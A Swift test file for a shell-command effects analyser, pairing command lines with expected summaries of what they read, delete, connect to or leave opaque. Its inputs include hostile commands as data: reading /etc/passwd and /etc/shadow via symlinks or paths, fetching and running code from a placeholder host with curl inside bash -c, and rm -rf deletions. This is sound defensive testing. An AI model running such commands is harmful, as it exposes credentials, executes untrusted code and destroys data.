import Testing

@testable import Effects

/// Programs of which nothing is known.
@Suite struct UnknownProgramTests {
  @Test(arguments: [
    ("mytool --config=.env a", "run mytool --config=.env a; read .env *; read a *"),
    (#"mytool "$X""#, #"run mytool "$X"; opaque"#),
    ("./build.sh", "run build.sh"),
    (
      "ln -sf /etc/passwd l; cat l",
      "run ln -sf /etc/passwd l; read /etc/passwd; write l *; run cat l; read l→/etc/passwd"
    ),
    ("cd -P config && cat ../shadow", "run cd -P config; run cat ../shadow; read /etc/shadow"),
    ("cd config && cat ../shadow", "run cd config; run cat ../shadow; read shadow→/etc/shadow"),
    ("alias x=y; x", "run alias x=y; run x"),
    (
      "git submodule foreach 'rm -rf x'",
      "run git submodule foreach rm -rf x; git submodule; opaque; run rm -rf x; opaque"
    ),
    (
      "sudo -u dev bash -c 'rm x'",
      "run sudo -u dev bash -c rm x; privilege sudo -u dev; run bash -c rm x; run rm x; delete x"
    ),
    (
      "find src -name x | xargs -0 rm -rf",
      "run find src -name x; read src; run xargs -0 rm -rf; run rm -rf …; opaque"
    ),
    (
      #"timeout 5 bash -c "$(curl -s https://h.example)""#,
      #"run curl -s https://h.example; connect https://h.example; run timeout 5 bash -c "$(curl -s https://h.example)"; run bash -c "$(curl -s https://h.example)"; opaque"#
    ),
    ("cat a; exit; rm b", "run cat a; read a; run exit; run rm b; delete b"),
    (#"echo "rm -rf /" # rm -rf /"#, "run echo rm -rf /"),
    (#"printf '%s\n' 'rm a' | bash"#, #"run printf %s\n rm a; run bash; run rm a; delete a"#),
    ("git commit -m 'rm -rf /'", "run git commit -m rm -rf /; git commit"),
    ("grep 'rm -rf /' a", "run grep rm -rf / a; read a"),
  ])
  func effects(line: String, expected: String) {
    #expect(CommandWorld.summary(line) == expected)
  }
}
